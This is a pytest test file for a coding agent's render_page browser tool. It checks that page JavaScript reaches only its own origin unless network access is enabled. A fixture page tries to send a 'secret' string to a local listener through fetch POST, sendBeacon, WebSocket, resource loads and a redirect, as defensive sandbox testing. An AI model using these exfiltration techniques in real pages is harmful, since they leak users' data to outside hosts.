"""render_page runs the model's JavaScript in kimicode's own Chromium, outside the
sandbox: the page may reach its own origin and nothing else, unless the user
allows the network (`[sandbox] network = true`)."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from boundary_helpers import Listener, listening
from helpers import browser_missing, call, requests_of, script, turn

pytestmark = pytest.mark.skipif(bool(browser_missing()), reason=browser_missing() or "")


def leaky_page(port: int) -> str:
    """Every way a page sends data out, then a fetch of its own origin; `#done` at the end."""
    target = f"http://127.0.0.1:{port}"
    return f"""<!doctype html><html><head><title>leak</title>
<link rel="stylesheet" href="{target}/style.css"></head><body>
<img src="{target}/pixel.png">
<script>
(async () => {{
  const seen = [];
  try {{ await fetch('{target}/post', {{method: 'POST', body: 'secret', mode: 'no-cors'}});
         seen.push('post-sent'); }} catch (e) {{ seen.push('post-refused'); }}
  try {{ navigator.sendBeacon('{target}/beacon', 'secret'); }} catch (e) {{}}
  try {{ new WebSocket('ws://127.0.0.1:{port}/ws'); }} catch (e) {{}}
  try {{ const r = await fetch('hop'); seen.push('hop:' + r.status); }}
  catch (e) {{ seen.push('hop-refused'); }}
  try {{ seen.push('own:' + (await (await fetch('data.json')).json()).ok); }}
  catch (e) {{ seen.push('own-refused'); }}
  document.title = seen.join(' ');
  const done = document.createElement('p'); done.id = 'done'; document.body.append(done);
}})();
</script></body></html>"""


def _render_script(target: str) -> dict:
    wait = [{"action": "wait_for", "selector": "#done"}, {"action": "wait", "ms": 500}]
    return script(
        (
            "look",
            [
                turn(tool_calls=[call("render_page", target=target, actions=wait)]),
                turn("Looked."),
            ],
        )
    )


def _tool_result(server) -> str:
    body = requests_of(server)[-1]
    return next(m["content"] for m in body["messages"] if m["role"] == "tool")


def _write_page(root: Path, port: int) -> None:
    (root / "index.html").write_text(leaky_page(port))
    (root / "data.json").write_text(json.dumps({"ok": "fine"}))


def test_page_javascript_reaches_only_its_own_origin(repo: Path, replay, kimicode) -> None:
    with listening() as listener:
        _write_page(repo, listener.port)
        server = replay(_render_script("index.html"))
        res = kimicode("-p", "look", cwd=repo, server=server)
        assert res.code == 0, res
        assert listener.received == []
    result = _tool_result(server)
    assert "own:fine" in result  # the page's own origin (kimicode's static server) works
    assert "blocked requests" in result and f"127.0.0.1:{listener.port}/post" in result


def test_with_network_allowed_the_page_reaches_other_ports(repo: Path, replay, kimicode) -> None:
    (repo / ".kimicode").mkdir()
    (repo / ".kimicode" / "config.toml").write_text("[sandbox]\nnetwork = true\n")
    with listening() as listener:
        _write_page(repo, listener.port)
        server = replay(_render_script("index.html"))
        res = kimicode("-p", "look", cwd=repo, server=server)
        assert res.code == 0, res
        assert any(b"secret" in data for data in listener.received)
    assert "own:fine" in _tool_result(server)


@contextmanager
def dev_server(page: str, escape: Listener) -> Iterator[int]:
    """A local dev server: the page, its data, and `/hop` redirecting off the origin."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path == "/hop":
                self.send_response(302)
                self.send_header("Location", f"http://127.0.0.1:{escape.port}/redirected")
                self.end_headers()
                return
            body = (json.dumps({"ok": "fine"}) if self.path == "/data.json" else page).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield httpd.server_address[1]
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_a_dev_server_is_the_page_origin_and_cannot_redirect_out(
    repo: Path, replay, kimicode
) -> None:
    with listening() as listener, dev_server(leaky_page(listener.port), listener) as port:
        server = replay(_render_script(f"http://127.0.0.1:{port}/"))
        res = kimicode("-p", "look", cwd=repo, server=server)
        assert res.code == 0, res
        assert listener.received == []
    result = _tool_result(server)
    assert "own:fine" in result and "hop-refused" in result
    assert f"127.0.0.1:{listener.port}/redirected" in result
